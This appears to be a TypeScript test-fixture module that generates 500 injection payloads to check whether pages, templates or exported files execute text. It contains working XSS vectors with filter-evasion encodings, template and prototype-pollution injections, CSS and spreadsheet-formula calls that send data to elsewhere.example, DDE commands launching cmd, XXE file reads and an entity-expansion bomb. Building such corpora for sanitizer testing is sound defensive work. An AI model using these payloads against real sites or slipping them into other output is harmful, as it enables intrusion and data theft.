// Texts that a page, a file or a template could run if it took them for anything but text. Each says what it would do by
// setting `__pwned`, so that one that ran is seen to have run. Families times ways of writing them: 500 in all.

const run = "window.__pwned=1";

const elements = [
  `<script>${run}</script>`,
  `<script src=data:text/javascript,${run}></script>`,
  `<script type=module>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x:x onerror="${run}" style="display:none">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${run} attributeName=x></svg>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}></svg>#x"></use></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>here</text></a></svg>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${run}">x</maction></math>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<button autofocus onfocus=${run}>x</button>`,
  `<a href="javascript:${run}" autofocus onfocus=${run}>here</a>`,
  `<a href="data:text/html,<script>opener.__pwned=1</script>">here</a>`,
  `<form action="javascript:${run}"><button autofocus onfocus=${run}>x</button></form>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<style onload=${run}></style>`,
  `<style>@import "https://elsewhere.example/x.css";</style>`,
  `<style>*{background:url(https://elsewhere.example/x)}</style>`,
  `<link rel=stylesheet href="https://elsewhere.example/x.css">`,
  `<link rel=prefetch href="https://elsewhere.example/x">`,
  `<link rel=dns-prefetch href="//elsewhere.example">`,
  `<meta http-equiv=refresh content="0;url=https://elsewhere.example/">`,
  `<base href="https://elsewhere.example/">`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<div style="animation:x" onanimationstart=${run}>x</div>`,
  `<div popover id=p onbeforetoggle=${run}></div><button popovertarget=p>x</button>`,
  `<div contenteditable autofocus onfocus=${run}>x</div>`,
  `<x-own onclick=${run} tabindex=1 autofocus onfocus=${run}>x</x-own>`,
  `<portal src="https://elsewhere.example/" onload=${run}></portal>`,
  `<object type="text/x-scriptlet" data="https://elsewhere.example/x"></object>`,
  `<applet code=x onerror=${run}></applet>`,
  `<isindex type=image src=1 onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
] as const;

/** What must be left before an element could be one: the places of a page that a text stands in. */
const doors = [
  (payload: string) => payload,
  (payload: string) => `">${payload}`,
  (payload: string) => `'>${payload}`,
  (payload: string) => `</title></style></textarea></script>${payload}`,
  (payload: string) => `</td></tr></table></main>${payload}`,
  (payload: string) => `--></p>]]>${payload}`,
] as const;

/** Ways to hide what is written from a filter that looks for it. */
const disguises = [
  (payload: string) => payload.replace(/</, "<\u0000"),
  (payload: string) => payload.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (payload: string) => payload.replaceAll("<", "\uFF1C").replaceAll(">", "\uFF1E"),
] as const;

const attributes = ["onmouseover", "onfocus", "onclick", "onpointerenter", "onkeydown", "oncopy", "onscroll"].flatMap(
  (name) => [`" ${name}="${run}" x="`, `' ${name}='${run}' x='`, `x ${name}=${run} `, `\u0060${name}=${run}\u0060`],
);

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  ` \u0001javascript:${run}`,
  `javascript://%0a${run}`,
  `vbscript:${run}`,
  `data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19wd25lZD0xPC9zY3JpcHQ+`,
  `//elsewhere.example/x`,
  `[here](javascript:${run})`,
  `![x](https://elsewhere.example/x.png)`,
  `<javascript:${run}>`,
] as const;

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{$on.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `[[${run}]]`,
  `{%raw%}<script>${run}</script>{%endraw%}`,
  `__proto__[__pwned]=1`,
  `{"__proto__":{"__pwned":1}}`,
  `constructor.prototype.__pwned`,
  `'-(${run})-'`,
  `\\'-(${run})//`,
  `";${run};//`,
  `\u2028${run}\u2029`,
  `*/${run}/*`,
] as const;

const styles = [
  `</style><script>${run}</script>`,
  `x;background:url("javascript:${run}")`,
  `expression(${run})`,
  `}*{background:url(//elsewhere.example/x)}`,
  `x{behavior:url(#default#time2)}`,
  `-moz-binding:url(//elsewhere.example/x)`,
  `input[value^=a]{background:url(//elsewhere.example/a)}`,
  `@font-face{font-family:x;src:url(//elsewhere.example/x)}`,
] as const;

const files = [
  `</w:t></w:r></w:p><w:altChunk r:id="rId1"/>`,
  `</w:t><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"/>`,
  `INCLUDETEXT "https://elsewhere.example/x"`,
  `INCLUDEPICTURE "https://elsewhere.example/x.png" \\d`,
  `DDEAUTO "cmd" "/c calc"`,
  `</is><f>HYPERLINK("https://elsewhere.example")</f>`,
  `</t></is></c><c r="A1"><f>1+1</f></c>`,
  `]]><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/hostname">]>&y;`,
  `<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>&b;`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname"/>`,
  `_x003C_script_x003E_`,
  `=HYPERLINK("https://elsewhere.example","here")`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+WEBSERVICE("https://elsewhere.example/?"&A1)`,
  `-2+3+IMPORTXML("https://elsewhere.example","//x")`,
  `\t=1+1`,
  `"=1+1"\n=2+2`,
  `%0d%0aContent-Type:text/html%0d%0a%0d%0a<script>${run}</script>`,
] as const;

/** Markup that turns into other markup when it is parsed, written out and parsed again. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noembed><img title="</noembed><img src onerror=${run}>"></noembed>`,
  `<xmp><p title="</xmp><svg/onload=${run}>"></xmp>`,
  `<listing>&lt;img src=1 onerror=${run}&gt;</listing>`,
  `<a id=report name=contents>clobbered</a>`,
  `<img name=getElementById><form id=body><input name=ownerDocument>`,
  `<textarea><!-- </textarea><img src=x onerror=${run}> --></textarea>`,
  `<select><style></select><img src=x onerror=${run}></style>`,
] as const;

/** 500 of them, none twice, each of them short enough for the shortest of the texts but a reference. */
export const crossSitePayloads: readonly string[] = [
  ...doors.flatMap((door) => elements.map(door)),
  ...disguises.slice(0, 2).flatMap((disguise) => elements.map(disguise)),
  ...[...attributes, ...addresses, ...templates, ...styles, ...files, ...mutations],
  ...elements.map((payload) => (disguises[2] as (text: string) => string)(payload)),
].slice(0, 500);
